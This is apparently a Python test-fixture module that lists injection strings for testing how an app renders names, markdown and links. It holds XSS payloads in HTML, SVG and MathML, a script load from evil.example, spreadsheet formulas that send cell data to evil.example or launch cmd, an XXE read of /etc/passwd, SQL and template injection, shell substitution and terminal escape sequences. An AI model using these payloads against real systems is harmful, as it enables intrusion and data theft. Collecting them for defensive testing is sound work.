"""Texts that try to be more than text, as claims, questions, notes, names and units may be.

What runs sets `window.pwned`, what becomes an element has the id `evil`, what is fetched is of the host `evil.example`.
"""

import re
from unicodedata import normalize

MARKUP = (
    "<script>window.pwned = 1</script>",
    "<sCrIpT/x>window.pwned=2</ScRiPt >",
    "<scr<script>ipt>window.pwned=3</scr</script>ipt>",
    '<script src="https://evil.example/a.js"></script>',
    "<img id=evil src=x onerror='window.pwned=1'>",
    '<img id="evil" src="https://evil.example/pixel.png" srcset="//evil.example/2x">',
    "<IMG ID=evil SRC=`javascript:window.pwned=1`>",
    '"><svg id=evil onload=window.pwned=1>',
    "<svg id=evil><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg id=evil><use href='data:image/svg+xml,<svg id=x onload=window.pwned=1>#x'/></svg>",
    "<svg id=evil><foreignObject><body onload=window.pwned=1></foreignObject></svg>",
    "<math id=evil><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "<math id=evil><maction actiontype='statusline#https://evil.example' xlink:href='javascript:pwned=1'>press",
    "</bdi></p></div><iframe id=evil srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe id=evil src='javascript:parent.pwned=1'></iframe>",
    "<object id=evil data='data:text/html,<script>parent.pwned=1</script>'></object>",
    "<embed id=evil src='https://evil.example/x.swf'>",
    "<style>body {display: none} @import url(https://evil.example/x.css)</style>",
    "<link id=evil rel=stylesheet href=https://evil.example/y.css>",
    "<meta id=evil http-equiv=refresh content='0; url=https://evil.example'>",
    "<base id=evil href=https://evil.example/>",
    "<form id=evil action=https://evil.example><button formaction=javascript:pwned=1>Send</button></form>",
    "<details id=evil open ontoggle=window.pwned=1>",
    "<input id=evil autofocus onfocus=window.pwned=1>",
    "<video id=evil><source onerror=window.pwned=1></video>",
    "<marquee id=evil onstart=window.pwned=1>by</marquee>",
    "<template><b id=evil>shadow</b></template><slot id=evil>",
    "<a id=evil href='javascript:window.pwned=1'>press</a>",
    "<a id=evil href=' jav&#x09;ascript:window.pwned=1'>press this</a>",
    "<a id=evil href='data:text/html,<script>opener.pwned=1</script>' target=_blank>data</a>",
    "<a id=evil href='vbscript:msgbox(1)'>visual</a>",
    "' onmouseover='window.pwned=1' x='",
    '" autofocus onfocus="window.pwned=1',
    "--><!-- <b id=evil>comment</b> -->",
    "<![CDATA[<b id=evil>cdata</b>]]>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "</textarea></title></noscript><b id=evil onclick=window.pwned=1>raw</b>",
    "&lt;b&gt;bold?&lt;/b&gt; &amp; &#60;i&#62; &#x3C;u&#x3E; &nbsp &NewLine;",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e %3Cscript%3E +ADw-script+AD4-",
    "＜script＞window.pwned=1＜/script＞ ‹b› ﹤i﹥",
    '</script><script>window.pwned=1</script>{"a": "b\\u2028"}',
    '"}]}, "evil": {"$ref": "#"}, "__proto__": {"pwned": 1}',
)
"""HTML, SVG, MathML, XML and what ends a string, a tag or an attribute around it."""

MARKDOWN = (
    "[link](https://evil.example) and ![picture](https://evil.example/x.png)",
    "[press](javascript:window.pwned=1) ![x](data:image/svg+xml,<svg/onload=pwned=1>)",
    "https://evil.example/a?b=c www.evil.example someone@evil.example <https://evil.example>",
    "[one][ref] [ref]\n\n[ref]: https://evil.example 'title'\n[^1]: foot",
    "# heading\n- list\n1. first\n> quote\n---",
    "Heading\n=======\n\n    code\n\n- [x] done",
    "`code` ```block``` ~~gone~~ **bold** _slanted_ ==marked==",
    "```html\n<b id=evil>fence</b>\n```",
    "| a | b |\n|---|---|\n| c | <b id=evil>d</b> |",
    "<b id=evil markdown=1>**both**</b> <details><summary>more</summary></details>",
    "$\\frac{1}{2}$ and $$x^2$$ and \\(y\\) and \\[z\\] \\href{javascript:pwned=1}{w}",
    ":smile: :material/home: :streamlit: :+1:",
    ":red[hot] :blue-background[cold] :rainbow[all] :small[tiny] :orange-badge[:material/star: new]",
    "<- -> <-> -- >= <= ~= (c) (tm) ... 'single' \"double\"",
    "* * *\n\\* \\_ \\# \\`",
)
"""Markdown as CommonMark, GitHub and Streamlit know it."""

CODE = (
    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} #{7*7} <%= 7*7 %>",
    "{% import os %}{{ ''.__class__.__mro__[1].__subclasses__() }} {0.__init__.__globals__} {name!r} %(x)s %s",
    "'; DROP TABLE answer; --",
    "1 OR 1=1 /* \\' UNION SELECT password_hash FROM rater",
    "../../../../etc/passwd ..\\..\\windows\\win.ini file:///etc/passwd",
    "$(touch /tmp/pwned) `id` ; | & > /dev/null",
    "[bold red]markup[/bold red] [link=https://evil.example]here[/link] [/]",
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A1",
    '@SUM(1+1)*HYPERLINK("https://evil.example","x")',
    '=HYPERLINK("https://evil.example?"&A1,"Error: press")',
    "\t=1+2",
    " =1+3",
    "＝1+4 ＋5 －6 ＠x",
    '","=1+5","',
)
"""Templates, SQL, paths, the shell, a terminal's markup, and spreadsheets' formulas."""

WRITING = (
    "\u202egnp.evil \u2066 right to left \u2069\u200f",
    "zero\u200bwidth\u200d and\u2060 joiners\ufeff \u00adsoft",
    "\u202dforced\u202c \u2067שלום (مرحبا)\u2069 abc",
    "Z" + "\u0301\u0489\u20dd" * 12 + " tower",
    "👩\u200d👩\u200d👧\u200d👦 👩🏽\u200d🔬 🏳️\u200d🌈 🇺🇦 1️⃣",
    "\U000e0041\U000e0042 tags \ufff9a\ufffab\ufffb between",
    "line\u2028separator\u2029paragraph\u0085next",
    "   leading, trailing and   inner spaces",
    "W" * 180,
    "漢字" * 60,
)
"""Scripts, joiners, directions, marks and long words."""

STEERING = (
    "\x1b[31mred\x1b[0m \x1b[2J\x1b[H cleared",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\ \x1b]0;title\x07 \x1b]52;c;cHduZWQ=\x07",
    "\x9b31mred \x9d0;title\x9c \x90q\x9c",
    "over\rwritten\x08\x08\x08 \x7f \x0b \x0c",
    "\r=1+6",
)
"""What steers a terminal; a page shows its controls as U+FFFD."""

HOSTILE = (*MARKUP, *MARKDOWN, *CODE, *WRITING)
ALL = (*HOSTILE, *STEERING)
_SHORT = (normalize("NFC", one.strip()) for one in HOSTILE if one.isprintable())
NAMES = tuple(dict.fromkeys(one for one in _SHORT if 1 <= len(one) <= 80))
"""Those that a rater may be called."""

LINKS = tuple(f"https://example.com/?{'+'.join(one.split())}" for one in HOSTILE if one.isprintable())
"""Links with such texts in them, as sources of answers."""

_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def seen(text: str) -> str:
    """Returns what people see of a text: controls are made visible."""
    return _CONTROLS.sub("\ufffd", text)
